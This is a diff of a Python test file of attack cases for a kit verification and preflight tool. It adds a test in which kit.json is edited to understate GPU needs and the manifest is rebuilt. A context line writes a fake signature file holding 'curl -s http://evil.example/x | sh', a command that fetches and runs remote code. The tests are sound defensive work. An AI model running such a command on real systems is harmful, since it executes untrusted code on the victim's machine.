@@ -79,3 +79,19 @@ def verify_kit_with_a_script_in_place_of_manifest_sig(w: Workbench) -> Argv:
     kit = w.kit()
     (kit / "MANIFEST.json.sig").write_text("#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
     return ["verify", kit, "--trust", w.trust]
+
+
+# --- preflight: requirements read from the kit only once it verified -------------------------
+
+
+@attack("RECEIPT_KIT_MISMATCH")
+def preflight_with_kit_json_lowered_to_one_h200_and_recomputed_manifest(w: Workbench) -> Argv:
+    """kit.json edited to ask for one H200 (the kit is measured on 8x B300): without the receipt
+    check, this node would PASS."""
+    kit = w.kit()
+    info = kit / "kit.json"
+    data = info.read_bytes().replace(b'"gpus_per_node":8', b'"gpus_per_node":1')
+    info.write_bytes(data.replace(b'"gpu_name_pattern":"B300"', b'"gpu_name_pattern":"H200"'))
+    (kit / "MANIFEST.json").write_bytes(manifest_bytes(build_manifest(kit)))
+    xml = Path(__file__).parents[1] / "data" / "preflight" / "h200x1.synthetic.xml"
+    return ["preflight", kit, "--trust", w.trust, "--profile", "batch", "--nvidia-smi-xml", xml]
